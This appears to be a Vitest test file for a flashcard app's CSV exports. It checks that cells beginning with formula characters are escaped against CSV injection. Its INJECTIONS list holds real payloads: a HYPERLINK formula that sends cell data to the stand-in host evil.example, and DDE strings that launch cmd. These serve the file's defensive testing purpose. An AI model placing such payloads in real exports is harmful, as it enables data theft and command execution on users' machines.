import { describe, expect, it } from 'vitest';
import type { CardRecord, ReviewLogRecord, ScheduleRecord } from '../../../lib/db';
import { deckToAnkiText, reviewLogCsv, reviewLogSheetCsv, scheduleCsv, spreadsheetCell } from '../../../lib/export';
import { newMemoryState } from '../../../lib/model';
import { basicCard } from '../db/helpers';

const INJECTIONS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

describe('CSV for spreadsheets (OWASP CSV injection)', () => {
  it.each(INJECTIONS)('neutralises a cell starting with a formula character: %j', (value) => {
    const cell = spreadsheetCell(value);
    expect(cell).toBe(`"'${value.replaceAll('"', '""')}"`);
  });

  it('quotes ordinary text, doubles quotes, keeps numbers as numbers', () => {
    expect(spreadsheetCell('a "Pod", with a comma')).toBe('"a ""Pod"", with a comma"');
    expect(spreadsheetCell('kubectl get pods -A')).toBe('"kubectl get pods -A"');
    expect(spreadsheetCell(-3)).toBe('-3');
    expect(spreadsheetCell(null)).toBe('');
  });

  const card = { ...basicCard('evil', 0, INJECTIONS[0]), key: 'import/evil', deckId: 'd', retired: 0 } as CardRecord;
  const schedule = {
    ...newMemoryState(0),
    key: card.key,
    deckId: 'd',
    noteId: 'evil',
    topic: '',
    ord: 0,
    active: 1,
    version: 0,
  } as ScheduleRecord;

  it('the schedule CSV neutralises a question and a deck name', () => {
    const csv = scheduleCsv([{ deck: '@Deck', card, schedule }], 'en');
    const [header, row] = csv.trim().split('\n');
    expect(header).toBe('deck,card,question,state,due,interval_days,stability,difficulty,reps,lapses,last_review,suspended');
    expect(row.startsWith(`"'@Deck","evil","'=HYPERLINK(`)).toBe(true);
  });

  it('the review log sheet neutralises a deck name; the optimizer CSV holds only numbers', () => {
    const log: ReviewLogRecord = {
      cardKey: 'import/+x',
      deckId: 'd',
      noteId: 'x',
      rating: 3,
      review: Date.UTC(2026, 0, 2),
      durationMs: 1500,
      before: newMemoryState(0),
      version: 1,
    };
    expect(
      reviewLogSheetCsv([log], new Map([['d', '=cmd']]))
        .trim()
        .split('\n')[1],
    ).toBe(`"'=cmd","'+x","2026-01-02T00:00:00.000Z","good","new",1500,"review"`);
    expect(reviewLogCsv([log]).trim().split('\n')[1]).toBe(`1,${Date.UTC(2026, 0, 2)},3,0,1500`);
  });

  it('the Anki plain-text export stays raw (it is for Anki, and the export screen says so)', () => {
    expect(deckToAnkiText('=Deck', [{ ...card, html: true }], 'en')).toContain(`\t=Deck\t"${INJECTIONS[0].replaceAll('"', '""')}"`);
  });
});
